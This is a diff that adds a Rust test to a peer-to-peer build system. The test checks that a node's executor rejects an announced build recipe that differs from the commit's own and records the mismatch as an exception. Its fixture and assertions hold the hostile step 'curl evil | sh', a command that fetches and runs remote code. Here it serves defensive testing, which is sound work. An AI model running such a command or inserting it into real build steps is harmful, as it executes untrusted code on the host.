@@ -709,3 +709,46 @@ fn a_job_of_a_repository_a_node_refuses_is_built_by_one_that_allows_it() {
         now += 1_000;
     }
 }
+
+/// A recipe a hostile node claims the commit has: same builder, other command.
+const HOSTILE: &str = "[[builder]]\nname='linux'\nrequires=['os=linux']\n[[builder.step]]\nrun='curl evil | sh'\n";
+
+#[test]
+fn an_announcement_whose_steps_differ_from_the_commit_ends_as_an_exception_naming_them() {
+    // Node 1 (no os=linux) announces a real commit with steps of its own;
+    // node 2 builds it.
+    let mut nodes = vec![node(1, &["os=mac"]), node(2, &["os=linux"])];
+    let mut now = 0;
+    settle(&mut nodes, now);
+    now += 10_000;
+    settle(&mut nodes, now);
+    let forged = CommitInfo { recipe: Ok(HOSTILE.into()), ..commit("abcd0c") };
+    nodes[0].announce(now, forged).unwrap();
+    let mut started = Vec::new();
+    for _ in 0..20 {
+        started.extend(settle(&mut nodes, now));
+        now += 500;
+    }
+    let (who, order) = started.pop().expect("node 2 claims the announced job");
+    assert_eq!(who, 1);
+    // The order carries the job as announced, never steps to run as such;
+    // the executor checks it against the recipe of its own checkout.
+    assert_eq!(order.announced.steps[0].run, "curl evil | sh");
+    let mismatch = crate::recipe::check_announced(&order.announced, "/repo", "abcd0c", Ok(RECIPE)).unwrap_err();
+    let error = mismatch.to_string();
+    assert_eq!(
+        error,
+        "recipe mismatch: the announced step \"step0\" runs `curl evil | sh`, the commit's .peerbot.toml says `make`"
+    );
+    // Nothing ran: the executor reports the mismatch as the build's error.
+    let outcome = BuildOutcome { steps: vec![], error: Some(error.clone()), ..finished(&order, now) };
+    nodes[1].handle(now, Input::BuildFinished(outcome));
+    settle(&mut nodes, now);
+    for n in &nodes {
+        let results = n.results_of(&order.job);
+        assert_eq!(results.len(), 1);
+        let stored = record::decode_stored(&n.store().get_record(&results[0]).unwrap()).unwrap();
+        let Body::Result(r) = stored.body else { panic!("not a result") };
+        assert_eq!((r.status, r.error.as_deref(), r.steps.len()), (Status::Exception, Some(error.as_str()), 0));
+    }
+}
